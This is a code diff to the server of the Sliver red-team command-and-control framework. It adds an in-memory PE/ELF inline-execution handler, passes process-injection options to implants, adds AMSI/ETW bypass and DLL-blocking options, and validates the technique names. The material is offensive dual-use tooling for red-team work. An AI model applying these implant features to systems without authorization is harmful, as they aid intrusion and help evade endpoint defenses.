@@ -51,8 +51,12 @@ var (
 
 // Task - Execute shellcode in-memory
 func (rpc *Server) Task(ctx context.Context, req *sliverpb.TaskReq) (*sliverpb.Task, error) {
+	err := checkInjection(req.Injection)
+	if err != nil {
+		return nil, err
+	}
 	resp := &sliverpb.Task{Response: &commonpb.Response{}}
-	err := rpc.GenericHandler(req, resp)
+	err = rpc.GenericHandler(req, resp)
 	if err != nil {
 		return nil, err
 	}
@@ -66,6 +70,9 @@ func (rpc *Server) Migrate(ctx context.Context, req *clientpb.MigrateReq) (*sliv
 	if session == nil {
 		return nil, ErrInvalidSessionID
 	}
+	if err := checkInjection(req.Injection); err != nil {
+		return nil, err
+	}
 	name := filepath.Base(req.Config.GetName())
 	shellcode, arch, err := getSliverShellcode(name)
 	if err != nil {
@@ -105,9 +112,10 @@ func (rpc *Server) Migrate(ctx context.Context, req *clientpb.MigrateReq) (*sliv
 	}
 
 	reqData, err := proto.Marshal(&sliverpb.InvokeMigrateReq{
-		Request: req.Request,
-		Data:    shellcode,
-		Pid:     req.Pid,
+		Request:   req.Request,
+		Data:      shellcode,
+		Pid:       req.Pid,
+		Injection: req.Injection,
 	})
 	if err != nil {
 		return nil, err
@@ -130,6 +138,14 @@ func (rpc *Server) ExecuteAssembly(ctx context.Context, req *sliverpb.ExecuteAss
 	var session *core.Session
 	var beacon *models.Beacon
 	var err error
+	err = checkInjection(req.Injection)
+	if err != nil {
+		return nil, err
+	}
+	err = checkBypass(req.BypassTechnique)
+	if err != nil {
+		return nil, err
+	}
 	if !req.Request.Async {
 		session = core.Sessions.Get(req.Request.SessionID)
 		if session == nil {
@@ -146,39 +162,47 @@ func (rpc *Server) ExecuteAssembly(ctx context.Context, req *sliverpb.ExecuteAss
 		}
 	}
 
-	shellcode, err := generate.DonutFromAssembly(
-		req.Assembly,
-		req.IsDLL,
-		req.Arch,
-		req.Arguments,
-		req.Method,
-		req.ClassName,
-		req.AppDomain,
-	)
-	if err != nil {
-		tasksLog.Errorf("Execute assembly failed: %s", err)
-		return nil, err
-	}
-
 	resp := &sliverpb.ExecuteAssembly{Response: &commonpb.Response{}}
 	if req.InProcess {
 		tasksLog.Infof("Executing assembly in-process")
 		invokeInProcExecAssembly := &sliverpb.InvokeInProcExecuteAssemblyReq{
-			Data:       req.Assembly,
-			Runtime:    req.Runtime,
-			Arguments:  strings.Split(req.Arguments, " "),
-			AmsiBypass: req.AmsiBypass,
-			EtwBypass:  req.EtwBypass,
-			Request:    req.Request,
+			Data:            req.Assembly,
+			Runtime:         req.Runtime,
+			Arguments:       strings.Split(req.Arguments, " "),
+			AmsiBypass:      req.AmsiBypass,
+			EtwBypass:       req.EtwBypass,
+			BypassTechnique: req.BypassTechnique,
+			Request:         req.Request,
 		}
 		err = rpc.GenericHandler(invokeInProcExecAssembly, resp)
 	} else {
+		if !generate.IsShellcodeArch(getArch(session, beacon)) {
+			return nil, status.Error(codes.FailedPrecondition, "execute-assembly can only run in-process (--in-process) on arm64")
+		}
+		shellcode, err := generate.DonutFromAssembly(
+			req.Assembly,
+			req.IsDLL,
+			req.Arch,
+			req.Arguments,
+			req.Method,
+			req.ClassName,
+			req.AppDomain,
+		)
+		if err != nil {
+			tasksLog.Errorf("Execute assembly failed: %s", err)
+			return nil, err
+		}
 		invokeExecAssembly := &sliverpb.InvokeExecuteAssemblyReq{
-			Data:        shellcode,
-			Process:     req.Process,
-			Request:     req.Request,
-			PPid:        req.PPid,
-			ProcessArgs: req.ProcessArgs,
+			Data:            shellcode,
+			Process:         req.Process,
+			Request:         req.Request,
+			PPid:            req.PPid,
+			ProcessArgs:     req.ProcessArgs,
+			Injection:       req.Injection,
+			BlockDLLs:       req.BlockDLLs,
+			AmsiBypass:      req.AmsiBypass,
+			EtwBypass:       req.EtwBypass,
+			BypassTechnique: req.BypassTechnique,
 		}
 		err = rpc.GenericHandler(invokeExecAssembly, resp)
 
@@ -197,6 +221,9 @@ func (rpc *Server) Sideload(ctx context.Context, req *sliverpb.SideloadReq) (*sl
 		err     error
 		arch    string
 	)
+	if err := checkInjection(req.Injection); err != nil {
+		return nil, err
+	}
 	if !req.Request.Async {
 		session = core.Sessions.Get(req.Request.SessionID)
 		if session == nil {
@@ -228,6 +255,7 @@ func (rpc *Server) Sideload(ctx context.Context, req *sliverpb.SideloadReq) (*sl
 			Kill:        req.Kill,
 			PPid:        req.PPid,
 			ProcessArgs: req.ProcessArgs,
+			Injection:   req.Injection,
 		}
 	}
 	resp := &sliverpb.Sideload{Response: &commonpb.Response{}}
@@ -238,11 +266,81 @@ func (rpc *Server) Sideload(ctx context.Context, req *sliverpb.SideloadReq) (*sl
 	return resp, nil
 }
 
+// InlineExecute - Run an unmanaged PE (Windows) or ELF (Linux) from memory, in the
+// implant process or a sacrificial process
+func (rpc *Server) InlineExecute(ctx context.Context, req *sliverpb.InlineExecuteReq) (*sliverpb.InlineExecute, error) {
+	var (
+		session *core.Session
+		beacon  *models.Beacon
+		err     error
+		arch    string
+	)
+	if err := checkInjection(req.Injection); err != nil {
+		return nil, err
+	}
+	if !req.Request.Async {
+		session = core.Sessions.Get(req.Request.SessionID)
+		if session == nil {
+			return nil, ErrInvalidSessionID
+		}
+		arch = session.Arch
+	} else {
+		beacon, err = db.BeaconByID(req.Request.BeaconID)
+		if err != nil {
+			msfLog.Errorf("%s", err)
+			return nil, ErrDatabaseFailure
+		}
+		if beacon == nil {
+			return nil, ErrInvalidBeaconID
+		}
+		arch = beacon.Arch
+	}
+
+	switch getOS(session, beacon) {
+	case "windows":
+		// Donut patches the command line and exits the thread instead of the process
+		shellcode, err := generate.DonutShellcodeFromPE(req.Data, arch, false, strings.Join(req.Args, " "), "", "", false, req.IsUnicode)
+		if err != nil {
+			tasksLog.Errorf("Inline execute failed: %s", err)
+			return nil, err
+		}
+		if req.ProcessName == "" {
+			req.ProcessName = `c:\windows\system32\notepad.exe`
+		}
+		req = &sliverpb.InlineExecuteReq{
+			Data:        shellcode,
+			InProcess:   req.InProcess,
+			ProcessName: req.ProcessName,
+			ProcessArgs: req.ProcessArgs,
+			PPid:        req.PPid,
+			Timeout:     req.Timeout,
+			Injection:   req.Injection,
+			Request:     req.Request,
+		}
+	case "linux":
+		// ELFs are run as they are, the args are the process' args
+		req.ProcessArgs = req.Args
+		req.Args = nil
+	default:
+		return nil, status.Error(codes.Unimplemented, "inline execution is only supported on windows and linux")
+	}
+	resp := &sliverpb.InlineExecute{Response: &commonpb.Response{}}
+	err = rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	return resp, nil
+}
+
 // SpawnDll - Spawn a DLL on the remote system (Windows only)
 func (rpc *Server) SpawnDll(ctx context.Context, req *sliverpb.InvokeSpawnDllReq) (*sliverpb.SpawnDll, error) {
 	var session *core.Session
 	var beacon *models.Beacon
 	var err error
+	err = checkInjection(req.Injection)
+	if err != nil {
+		return nil, err
+	}
 	if !req.Request.Async {
 		session = core.Sessions.Get(req.Request.SessionID)
 		if session == nil {
@@ -273,6 +371,7 @@ func (rpc *Server) SpawnDll(ctx context.Context, req *sliverpb.InvokeSpawnDllReq
 		Kill:        req.Kill,
 		PPid:        req.PPid,
 		ProcessArgs: req.ProcessArgs,
+		Injection:   req.Injection,
 	}
 	err = rpc.GenericHandler(spawnDLLReq, resp)
 	if err != nil {
@@ -281,6 +380,22 @@ func (rpc *Server) SpawnDll(ctx context.Context, req *sliverpb.InvokeSpawnDllReq
 	return resp, nil
 }
 
+// checkInjection - Reject injection techniques implants don't support, the implant
+// uses its default technique when none is set
+func checkInjection(injection *sliverpb.Injection) error {
+	if injection.GetTechnique() == "" || generate.IsInjectionTechnique(injection.GetTechnique()) {
+		return nil
+	}
+	return status.Errorf(codes.InvalidArgument, "unknown injection technique '%s'", injection.GetTechnique())
+}
+
+func checkBypass(technique string) error {
+	if technique == "" || generate.IsBypassTechnique(technique) {
+		return nil
+	}
+	return status.Errorf(codes.InvalidArgument, "unknown bypass technique '%s'", technique)
+}
+
 func getOS(session *core.Session, beacon *models.Beacon) string {
 	if session != nil {
 		return session.OS
@@ -291,6 +406,16 @@ func getOS(session *core.Session, beacon *models.Beacon) string {
 	return ""
 }
 
+func getArch(session *core.Session, beacon *models.Beacon) string {
+	if session != nil {
+		return session.Arch
+	}
+	if beacon != nil {
+		return beacon.Arch
+	}
+	return ""
+}
+
 // Utility functions
 func getSliverShellcode(name string) ([]byte, string, error) {
 	var data []byte